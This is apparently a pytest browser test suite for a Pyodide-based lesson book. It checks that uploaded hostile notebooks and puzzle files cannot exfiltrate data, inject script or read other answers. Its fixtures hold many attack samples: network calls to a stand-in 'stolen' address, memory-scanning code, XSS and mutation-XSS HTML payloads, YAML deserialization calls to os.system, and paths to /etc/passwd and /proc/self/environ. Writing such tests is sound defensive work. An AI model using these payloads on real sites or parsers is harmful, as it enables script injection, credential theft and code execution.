"""Hostile notebooks and puzzle files in the live pages of the book: loaded, clicked and run they ask no
server, run no script in the page, and read no answer of its reader."""

from __future__ import annotations

import json
import threading
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from sizes import ALL, thinned

from .lab import until_true
from .live_page import place_of, take_answers, write_answer
from .test_book import Quiet

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("pyodide")]

LESSON = "lessons/01-backtracking.html"
STOLEN = "stolen"  # is in each address that hostile code asks for
PYTHON = "wasm://"  # an error within Python, that code has broken
NEEDLE = "needle_of_the_reader"
START = f"""
import ctypes, gc, json, re, socket, sys
import js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import run_sync, to_js
from pyodide.http import open_url, pyfetch
A, HOME = "{{address}}{STOLEN}", "{{home}}{STOLEN}"
MINE = "needle_of_the_reade[r] = 791[9]"  # is not found in itself

def attempt(act):
    try: print("GOT", act())
    except BaseException as error: print("not:", type(error).__name__, str(error)[:80])
"""
# Its name, and what it tries.
TRIES = {
    "fetch": ["js.fetch(A)", "js.fetch(HOME)", "js.self.fetch(A)", "js.globalThis.fetch(A)"],
    "pyfetch": ["run_sync(pyfetch(A))", "run_sync(pyfetch(HOME))"],
    "open_url": ["open_url(A)", "open_url(HOME)"],
    "XMLHttpRequest": ["js.XMLHttpRequest.new().open('GET', A, False)"],
    "sockets": [
        "js.WebSocket.new(A.replace('http', 'ws'))",
        "js.WebTransport.new(A.replace('http', 'https'))",
    ],
    "events": ["js.EventSource.new(A)", "js.EventSource.new(HOME)"],
    "beacon": ["js.navigator.sendBeacon(A, 'x')"],
    "scripts": ["js.importScripts(A)", "js.importScripts(HOME)"],
    "texts as scripts": [
        'run_js(f"fetch(\'{A}\')")',
        'run_js(f"import(\'{HOME}\')")',
        'js.eval(f"import(\'{A}\')")',
        'js.Function.new(f"import(\'{HOME}\')")()',
        'js.Array.constructor(f"return import(\'{HOME}\')")()',
    ],
    "workers": [
        "js.Worker.new(A)",
        "js.Worker.new(js.URL.createObjectURL(js.Blob.new([f\"fetch('{A}')\"])))",
        "js.SharedWorker.new(HOME)",
    ],
    "channels": ["js.BroadcastChannel.new('spy').postMessage(A)", "js.MessageChannel.new()"],
    "storages": [
        "js.localStorage.length",
        "js.indexedDB.open('spy')",
        "js.caches.open('spy')",
        "js.navigator.storage.getDirectory()",
        "js.cookieStore.getAll()",
    ],
    "prototypes": [
        "js.Object.getPrototypeOf(js.self).fetch",
        "js.Object.getPrototypeOf(js.Object.getPrototypeOf(js.self)).fetch",
        "js.self.constructor.prototype.importScripts",
        "js.Reflect.get(js.self, 'fetch').call(js.self, A)",
    ],
    "Python's own": [
        "__import__('urllib.request').request.urlopen(A, timeout=1)",
        "socket.create_connection(('127.0.0.1', int(A.split(':')[2].split('/')[0])), 1).send(b'GET /stolen')",
    ],
    "packages": [
        "run_sync(pyodide_js.loadPackage(A + '.whl'))",
        "run_sync(pyodide_js._api.loadBinaryFile(A))",
    ],
    "a lazy file": [
        "[pyodide_js._module.FS.createLazyFile('/', 'lazy', HOME, True, False), open('/lazy').read()]"
    ],
    "a script by ctypes": ["ctypes.CDLL(None).emscripten_run_script(f\"import('{A}')\".encode())"],
    "messages": [
        "js.postMessage(to_js({'answer': '{}'}))",
        "js.addEventListener('message', print)",
        "js.dispatchEvent",
    ],
}
ENDS = "a lazy file", "a script by ctypes"  # Python, as well
READS = {
    "all of the memory": "memory = lambda: pyodide_js._module.HEAPU8\n"
    "part = lambda place: memory().slice(place, place + (1 << 20)).to_bytes()\n"
    "found = lambda place: re.search(MINE.encode(), part(place))\n"
    "attempt(lambda: next(filter(found, range(0, memory().length, 1 << 20))))",
    "all objects": "inside = lambda one: one.values() if type(one) is dict else one\n"
    "every = (one for one in gc.get_objects() if type(one) in (dict, list, tuple))\n"
    "found = lambda one: any(type(text) is str and re.search(MINE, text) for text in inside(one))\n"
    "attempt(lambda: next(filter(found, every)))",
    "frames": "frame = sys._getframe()\nwhile frame:\n"
    "    attempt(lambda: re.search(MINE, str(frame.f_locals)).group())\n"
    "    frame = frame.f_back",
    "a name that another answer has": f"attempt(lambda: {NEEDLE})",
}
# HTML, and what is made of it.
HTML = [
    "<img src=x onerror='{ran}'>",
    "<img src='{address}stolen' srcset='{address}stolen 2x'>",
    "<svg onload='{ran}'><script>{ran}</script><a xlink:href='javascript:{ran}'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={ran}>'/><animate onbegin='{ran}' attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ran}&gt;'>",
    "<svg></p><style><a title='</style><img src onerror={ran}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={ran}>",
    "<noscript><p title='</noscript><img src=x onerror={ran}>'>",
    "<template shadowrootmode=open><img src=x onerror='{ran}'><script>{ran}</script></template>",
    "<iframe src='{address}stolen'></iframe><iframe srcdoc='<script>parent.{ran}</script>'></iframe>",
    "<object data='{address}stolen'></object><embed src='{address}stolen'><portal src='{address}stolen'>",
    "<meta http-equiv=refresh content='0; url={address}stolen'><base href='{address}'>",
    "<link rel=stylesheet href='{address}stolen'><link rel=prefetch href='{home}stolen'>",
    "<style>@import '{address}stolen'; body {{ background: url({address}stolen) }}</style>",
    "<p style='background: url({address}stolen)'>x</p>",
    "<p style=\"background: image-set('{address}stolen' 1x)\">y</p>",
    "<p style='position: fixed; inset: 0; background: #fff'>Your session has ended</p>",
    "<form action='{address}stolen'><input autofocus onfocus='{ran}'><button formaction='javascript:{ran}'>",
    "<a href='javascript:{ran}' ping='{address}stolen'>x</a>",
    "<a href='data:text/html,<script>{ran}</script>'>y</a>",
    "<video src='{address}stolen' poster='{address}stolen'><source src=x onerror='{ran}'></video>",
    "<details open ontoggle='{ran}'><select autofocus onfocus='{ran}'></details><body onload='{ran}'>",
    "<script src='{address}stolen'></script><script>{ran}</script>",
    "<div id=Book name=live class=live data-exercise=1.1 data-model=x aria-label=x>clobbered</div>",
]
RAN = 'document.title = window.ran = "{0}"'
SHAPES = "text, [text], [[text], 3], {'html': text}, (3, text), {'toString': text}"
SHOWS = {
    "a message": "import lessons.kit.live.following as f\n"
    f"f.CardState.models = lambda self: [{{'part': 'line', 'traits': {{'value': value}}}} for text in HTML"
    f" for value in ({SHAPES})]",
    "other parts": "import lessons.kit.live.following as f\n"
    "traits = {'value': HTML, 'max': HTML, 'still': HTML, 'description': HTML[0], 'children': HTML}\n"
    "f.CardState.models = lambda self: [{'part': part, 'traits': traits}"
    " for part in ('step', 'line', 'none', '__proto__', 'constructor')]",
    "a verdict": "import lessons.kit.live.session as s\n"
    "s.Session.run_or_check = lambda *_, **__: {'status': HTML[0], 'text': HTML[1], 'html': ''.join(HTML)}",
    "no text": "import lessons.kit.live.session as s\n"
    "s.Session.run_or_check = lambda *_, **__: {'status': 'ran', 'text': HTML, 'html': {'toString': 1}}",
    "an error": "print(*HTML)\nraise type(HTML[0], (Exception,), {})(*HTML)",
    "a value": "class Rich:\n    def __repr__(self): return ''.join(HTML)\n"
    "    _repr_html_ = _repr_svg_ = _repr_javascript_ = __repr__\n"
    "    def _repr_mimebundle_(self, **_): return {'text/html': repr(self)}\nRich()",
    "no JSON": "json.dumps = lambda *_, **__: '<img src=x onerror=alert(1)>'",
    "other JSON": "json.dumps = lambda *_, **__: '{\"status\": \"watched\", \"models\": 3, \"uses\": null}'",
}
SPY = (
    "kept, loads = [], json.loads\njson.loads = json.spy = lambda text, *_: kept.append(text) or loads(text)"
)
SPIED = "attempt(lambda: json.spy)"
# The answer comes first where the last value, or an error, is what it shows.
ANSWER = "def can_still_work(square):\n    return False\n\n"
CHECK = 'check("1.3", can_still_work)'
LOOK = """(nodes) => {
  const inside = [...document.querySelectorAll(".live-output *, .live .eo-message *")];
  const odd = inside.filter((node) => !nodes.includes(node.localName) || node.getAttributeNames()
    .some((name) => !["class", "role", "style", "tabindex"].includes(name)));
  const kept = Object.entries(localStorage).filter(([key]) => !key.endsWith(" 1.3")).sort();
  return { ran: globalThis.ran ?? null, heard: globalThis.heard, title: document.title,
    odd: odd.map((node) => node.outerHTML), kept };
}"""
NODES = "b br code div em i p pre span strong table tbody td th tr".split()
COUNT = """() => {
  const post = Worker.prototype.postMessage;
  Object.assign(globalThis, { asked: [], heard: [] });
  Worker.prototype.postMessage = function (message) {
    if (message.request) {
      const { action, id, source = "" } = message.request;
      globalThis.asked.push([action, id, source]);
    }
    return post.call(this, message);
  };
  new BroadcastChannel("spy").onmessage = ({ data }) => globalThis.heard.push(data);
}"""
TOGETHER = "all tries"
PAUSE = "new Promise((done) => setTimeout(done, 800))"  # longer than that of a card which follows


class Stranger(BaseHTTPRequestHandler):
    """A server that no page may ask."""

    heard: list[str]

    def do_GET(self):
        self.heard.append(self.path)
        self.send_response(204)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_HEAD = do_GET

    def log_message(self, *_):
        pass


class Home(Quiet):
    """The server of the book: it notes what it is asked for."""

    heard: list[str]

    def do_GET(self):
        self.heard.append(self.path)
        super().do_GET()

    def do_HEAD(self):
        self.heard.append(self.path)
        super().do_HEAD()


@pytest.fixture(scope="module")
def doors(site):
    """The addresses of the book and of a stranger; at the end nobody has asked for what is stolen."""
    heard: list[str] = []
    stranger = type("Heard", (Stranger,), {"heard": heard})
    home = partial(type("Heard", (Home,), {"heard": heard}), directory=site)
    servers = [ThreadingHTTPServer(("127.0.0.1", 0), one) for one in (home, stranger)]
    for server in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield [f"http://127.0.0.1:{server.server_port}/" for server in servers]
    for server in servers:
        server.shutdown()
        server.server_close()
    assert any(path.endswith("/live/worker.js") for path in heard)
    assert not [path for path in heard if STOLEN in path]


@pytest.fixture
def reader(browser, doors):
    """A function that opens a page of the book; no request leads elsewhere, or is for what is stolen."""
    context, wrong = browser.new_context(reduced_motion="reduce"), []
    context.add_init_script(f"({COUNT})()")
    allowed = (doors[0], f"blob:{doors[0]}", "data:")

    def open_page(name: str = LESSON):
        page = context.new_page()
        page.set_default_timeout(90_000)
        page.on("pageerror", lambda error: None if PYTHON in error.stack else wrong.append(error.stack))
        page.goto(doors[0] + name)
        until_true(page, "() => document.body.dataset.awake")
        return page

    context.on("request", lambda one: None if fine(one.url, allowed) else wrong.append(one.url))
    yield open_page
    context.close()
    assert not wrong, wrong


def fine(url: str, allowed: tuple[str, ...]) -> bool:
    return url.startswith(allowed) and STOLEN not in url


def hostile_sources(home: str, address: str) -> dict[str, str]:
    """Return the hostile answers to exercise 1.3: name -> code. `make test` puts into one what only tries,
    and takes every fourth of all."""
    start = START.format(home=home, address=address)
    ran = RAN.format("ran").replace('"', "`")
    html = [one.format(home=home, address=address, ran=ran) for one in HTML]
    tries = {
        name: "\n".join(f"attempt(lambda: {one})" for one in some) for name, some in TRIES.items()
    } | READS
    if not ALL:
        last = {name: tries.pop(name) for name in ENDS}
        tries = {TOGETHER: "\n".join(tries.values())} | last
    sources = {name: f"{start}{code}\nprint('tried')" for name, code in tries.items()}
    for name, code in SHOWS.items():
        sources[name] = f"{start}HTML = {html!r}\nprint('tried')\n{code}"
    return {name: f"{ANSWER}{code}" for name, code in thinned(sources.items(), 4)}


def notebook_with(source: str) -> bytes:
    """Return a notebook with this answer, and hostile text in all its other places."""
    bad = f"<script>{RAN.format('x')}</script><img src=x onerror='{RAN.format('x')}'>"
    output = {"output_type": "display_data", "data": {"text/html": bad, "application/javascript": bad}}
    text = {"cell_type": "markdown", "source": bad, "attachments": {"x": {"image/svg+xml": bad}}}
    code = {"cell_type": "code", "id": bad, "source": f"{source}\n\n{CHECK}", "outputs": [output]}
    return json.dumps({"cells": [text, code], "metadata": {"title": bad}}).encode()


def load(page, source: str) -> None:
    said = page.locator("#live-kept")
    said.evaluate("(node) => { node.textContent = ''; }")
    file = {"name": "x.ipynb", "mimeType": "application/json", "buffer": notebook_with(source)}
    take_answers(page, file)
    page.locator("#live-kept", has_text="1 answer taken").wait_for()


def run(page, id: str) -> str:
    """Press Run, and return what came."""
    place_of(page, id).get_by_role("button", name="Run").click()
    output = place_of(page, id).locator(".live-output")
    until_true(page, "(node) => node.dataset.status !== 'busy'", output.element_handle())
    return output.inner_text()


def asked(page, source: str = "") -> int:
    """Return how often Python was asked to run exercise 1.3, with this code in it."""
    count = "(code) => asked.filter(([, id, source]) => id === '1.3' && source.includes(code)).length"
    return page.evaluate(count, source.strip())


def seen(page) -> dict:
    return page.evaluate(LOOK, NODES)


def untouched(page) -> dict:
    """Fail where something of a notebook has come into the page."""
    found = seen(page)
    assert not found["odd"] and not found["heard"] and found["ran"] is None, found
    return found


@pytest.fixture
def page(reader):
    """A page whose reader has written an answer, and run it."""
    page = reader()
    write_answer(page, "1.1", f"{NEEDLE} = 7919\nprint('mine')")
    assert run(page, "1.1") == "mine"
    return page


def test_hostile_notebooks_send_nothing_show_nothing_and_read_nothing(page, doors):
    """Each is loaded, another editor is touched, and only then it is run."""
    before = untouched(page)
    assert len(TRIES | READS | SHOWS) >= 20
    for name, source in hostile_sources(*doors).items():
        runs = asked(page, source)
        load(page, source)
        place_of(page, "1.1").locator(".cm-content").click()
        if ALL or name == TOGETHER:
            page.evaluate(PAUSE)
        assert asked(page, source) == runs, name
        said = run(page, "1.3")
        assert "Python has ended" in said if name in ENDS else name in SHOWS or "tried" in said, (name, said)
        assert "GOT" not in said, (name, said)
        assert asked(page, source) > runs
        if name in SHOWS:
            page.evaluate(PAUSE)  # its card has followed
        assert untouched(page) == before, name
    assert run(page, "1.1") == "mine"


@pytest.mark.long
def test_a_python_that_a_notebook_has_changed_runs_nothing_of_the_reader(page, doors):
    start = START.format(home=doors[0], address=doors[1])
    load(page, f"{start}{SPY}\nprint('spying')\n{ANSWER}")
    assert "spying" in run(page, "1.3")
    write_answer(page, "1.1", f"{NEEDLE} = 7919\nimport json\nprint(hasattr(json, 'spy'))")
    assert run(page, "1.1") == "False"
    load(page, f"{start}{SPIED}\nprint('tried')\n{ANSWER}")
    said = run(page, "1.3")
    assert "tried" in said and "GOT" not in said


LOUD = f"print('it has run')\n{ANSWER}".strip()


def test_kept_code_of_a_notebook_runs_only_after_a_press_at_its_exercise(reader):
    """Not at the next visit, nor when its reader takes a change back."""
    page = reader()
    load(page, LOUD)
    page.reload()
    until_true(page, "() => document.body.dataset.awake")
    for act in (lambda: None, lambda: take_back(page)):
        act()
        write_answer(page, "1.1", "print('mine', 'can_still_work' in globals())")
        assert run(page, "1.1") == "mine False"
        page.evaluate(PAUSE)
        assert asked(page) == 0
    assert "it has run" in run(page, "1.3")
    until_true(page, "() => asked.some(([action, id]) => action === 'watch' && id === '1.3')")
    page.reload()
    until_true(page, "() => document.body.dataset.awake")
    assert run(page, "1.1") == "mine False"
    page.evaluate(PAUSE)
    assert asked(page) == 0


def take_back(page) -> None:
    """Write another answer over that of the notebook, which is then there again."""
    place_of(page, "1.3").get_by_role("button", name="Reset").click()
    place_of(page, "1.3").locator(".cm-content").click()
    page.keyboard.press("ControlOrMeta+z")
    assert "it has run" in place_of(page, "1.3").locator(".cm-content").inner_text()


@pytest.mark.long
def test_an_undone_change_does_not_bring_a_notebooks_code_to_life(page):
    """Its reader has written and run an answer; what came from a notebook before is there again."""
    load(page, LOUD)
    write_answer(page, "1.3", ANSWER)
    run(page, "1.3")
    until_true(page, "() => asked.some(([action, id]) => action === 'watch' && id === '1.3')")
    runs = asked(page)
    place_of(page, "1.3").locator(".cm-content").click()
    for _ in range(3):
        page.keyboard.press("ControlOrMeta+z")
    page.evaluate(PAUSE)
    run(page, "1.1")
    page.evaluate(PAUSE)
    assert asked(page) == runs


PUZZLES = {
    "its names": "name: {html}\npieces: [{{name: {html}, cells: [[0, 0, 0]]}}]\nbox: [1, 1, 1]",
    "no YAML": "{html}: [",
    "an object": "!!python/object/apply:os.system ['true']",
    "JavaScript": "!!python/object/apply:js.fetch ['{address}stolen']",
    "a number": "7",
    "many letters": "name: " + "<img src=x onerror=alert(1)>" * 1000,
    "more letters": "name: " + "x" * 1_000_000,
    "a Python class": "!!python/object/new:type [{html}, !!python/tuple [], {{}}]",
    "a Python name": "name: !!python/name:os.system",
    "aliases that grow": "a: &a [{html}, {html}]\nb: &b [*a, *a]\nname: &c [*b, *b]\npieces: [*c, *c]",
    "a list in itself": "pieces: &a [*a]",
    "lists in lists": "pieces: " + "[" * 5000,
    "a merge": "<<: {{name: {html}}}\nbox: [1, 1, 1]",
    "an unknown key": "{html}: {html}\nbox: [1, 1, 1]",
    "a key twice": "name: {html}\nname: {html}",
    "many documents": "---\n" * 2000,
    "another file": "container: /etc/passwd\npieces: ../../../proc/self/environ",
    "no text": "\0\x01\x1b[31m",
    "a text from right to left": "pieces: [{{name: \u202e{html}, cells: [[0, 0, 0]]}}]\nbox: [1, 1, 1]",
    "a large box": "pieces: [{{name: {html}, cells: [[0, 0, 0]]}}]\nbox: [1000000, 1000000, 1000000]",
    "many copies": "pieces: [{{name: {html}, cells: [[0, 0, 0]], copies: 1000000000}}]\nbox: [1, 1, 1]",
    "no numbers": "pieces: [{{cells: [[.nan, 0, .inf]]}}]\nbox: [.inf, 1, 1]",
}
HAND = "[...Book.models.values()].find((model) => model.get('helps'))"


@pytest.mark.long
def test_hostile_puzzle_files_send_nothing_and_show_nothing(reader, doors):
    page = reader("lessons/00-start-here.html")
    card = page.locator(".eo-handcard:visible").first
    card.locator(".hand-board").wait_for()
    before = untouched(page)
    assert len(PUZZLES) >= 20
    for name, text in thinned(PUZZLES.items(), 3):
        html = json.dumps(HTML[0].format(ran="window.ran = 1"))
        file = text.format(html=html, address=doors[1])
        page.evaluate(f"(file) => {{ {HAND}.get('puzzle').file = file; }}", file)
        for question in ("Still solvable?", "Hint"):
            card.get_by_role("button", name=question, exact=True).click()
            until_true(page, f"() => {HAND}.get('ask')[1] === {HAND}.get('answered')")
        assert not card.locator("img, script").count() and untouched(page) == before, name
